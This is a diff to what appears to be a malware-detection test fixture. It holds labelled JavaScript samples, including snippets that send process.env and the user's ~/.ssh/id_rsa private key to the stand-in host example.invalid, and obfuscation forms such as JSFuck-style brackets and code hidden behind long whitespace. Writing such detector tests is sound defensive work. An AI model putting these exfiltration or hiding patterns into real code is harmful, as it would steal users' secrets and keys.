@@ -44,7 +44,7 @@ CHAINS = {
               {"behaviour-download-and-run"}, "malicious"),
     "environment": ("const q = require('https').request({ hostname: 'example.invalid' });\n"
                     "q.write(JSON.stringify(process.env)); q.end()",
-                    {"behaviour-host-sent"}, "review"),
+                    {"behaviour-environment-sent"}, "malicious"),
     "files": ("const fs = require('fs'), path = require('path'), os = require('os');\n"
               "function read() { return fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')) }\n"
               "function send(d) { require('axios').post('https://example.invalid', { d }) }\n"
@@ -130,7 +130,6 @@ FORMS = {
     "numbers": NUMBERS,
     "brackets": "(![]+[])[+[]]" + "+(![]+[])[+!+[]]" * 60,
     "right": "module.exports = {};" + " " * 300 + "f();\n",
-    "unseen": "const s = '" + "".join(chr(0xE0100 + i) for i in range(64)) + "';\n",
     "padded": "// filler\nexports.a = 1;\n" * 4000 + NUMBERS + "exports.b = 2;\n" * 4000,
 }
 
